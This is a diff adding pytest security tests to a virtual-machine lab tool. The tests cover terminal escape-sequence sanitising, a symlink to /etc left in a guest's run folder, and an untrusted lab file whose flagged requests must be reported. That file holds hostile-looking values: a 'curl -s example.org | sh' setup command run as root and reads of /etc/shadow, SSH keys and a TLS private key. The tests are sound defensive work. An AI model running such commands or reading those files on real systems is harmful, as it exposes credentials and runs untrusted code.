@@ -5,6 +5,7 @@ from __future__ import annotations
 import gzip
 import http.server
 import json
+import os
 import socket
 import ssl
 import subprocess
@@ -15,6 +16,7 @@ from pathlib import Path
 
 import pytest
 
+from dacha.core.harmless import TerminalText
 from tests.attacks.report import Report
 from tests.conftest import PROGRAM, Lab
 
@@ -71,6 +73,50 @@ def test_a_record_is_text_and_colours_for_a_terminal_and_itself_for_a_file(lab: 
     shown = subprocess.run(script, cwd=lab.folder, env=lab.env, capture_output=True, check=True).stdout
     assert b"\x1b[32mok\x1b[0m" in shown and b"\x1b]" not in shown and b"\x1b[2J" not in shown
     assert b"\x07" not in shown and b"\xc2\x9b" not in shown and b"\x00" not in shown
+
+
+@pytest.mark.parametrize("piece", [1, 2, 3, 7, 1000])
+def test_a_record_may_be_read_in_any_pieces(piece: int) -> None:
+    """Controls of eight bits, as UTF-8 or as raw bytes, and sequences that end in the next piece."""
+    record = b"\xc2\x9b2J ok \x9b31m\x1b[32mgreen\x1b[0m\x1b]0;x\x07\xe2\x86\x92\x1b[2J\xe2\x80\xae\r\n\x1b"
+    shown = TerminalText()
+    text = "".join(shown.feed(record[n : n + piece]) for n in range(0, len(record), piece)) + shown.feed(b"", last=True)
+    assert text == ("\\x9b2J ok \ufffd31m\x1b[32mgreen\x1b[0m\\x1b]0;x\\x07→\\x1b[2J\\x202e\r\n\\x1b")
+
+
+def test_what_a_guests_user_left_in_its_run_folder_stops_no_start(lab: Lab) -> None:
+    lab("new", "siege")
+    lab("guest", "add", "gauge", "--disk", "1MiB", "--memory", "64MiB")
+    lab("apply", "--no-wait")
+    lab("stop", "gauge", "--force", "--wait", "0s")
+    run = Path(lab.env["DACHA_RUN"]) / "siege/gauge"
+    (run / "qmp").mkdir(parents=True)
+    (run / "qmp/deep").write_text("x")
+    (run / "way").symlink_to("/etc")
+    lab("start", "gauge", "--no-wait")
+    assert not (run / "way").exists() and Path("/etc/passwd").exists() and lab.pid("gauge")
+
+
+def test_a_lab_file_of_somebody_else_says_what_it_asks_for(lab: Lab) -> None:
+    lab.write(
+        '[lab]\nname = "siege"\n[network.pier]\nkind = "nat"\nbackend = "kernel"\nto-host = ["tcp 3128"]\n'
+        '[guest.gauge]\ndisk = [{ from = "/etc/shadow" }]\nmedium = ["/root/notes.iso"]\nadapter = [{ network = "pier" }]\n'
+        'login = { user = "ops", keys = ["/home/mara/.ssh/id.pub"] }\ndoor.ssh = { from = "lan", port = 2220 }\n'
+        'setup.run = ["curl -s example.org | sh"]\nsetup.file = [{ path = "/x", from = "/etc/ssl/private/key" }]\n'
+    )
+    os.chown(lab.file, 65533, 65533)
+    said = lab("apply", code=3).err
+    assert "dacha check --untrusted" in said
+    asked = lab("check", "--untrusted", str(lab.file), "--json").json["requests"]
+    rows = {(r["kind"], r["what"]) for r in asked}
+    for kind, what in (
+        ("reads", "/etc/shadow"), ("reads", "/root/notes.iso"), ("reads", "/home/mara/.ssh/id.pub"),
+        ("reads", "/etc/ssl/private/key (into /x)"), ("runs", "in the guest, as root: curl -s example.org | sh"),
+        ("listens", "port 2220 of this host for the LAN, door ssh"), ("reaches", "services of this host: tcp 3128"),
+        ("changes", "links and firewall rules of this host (needs root)"),
+    ):  # fmt: skip
+        assert (kind, what) in rows, (kind, what, rows)
+    assert "/etc/shadow" in lab("check", "--untrusted", str(lab.file)).out
 
 
 class Server(http.server.BaseHTTPRequestHandler):
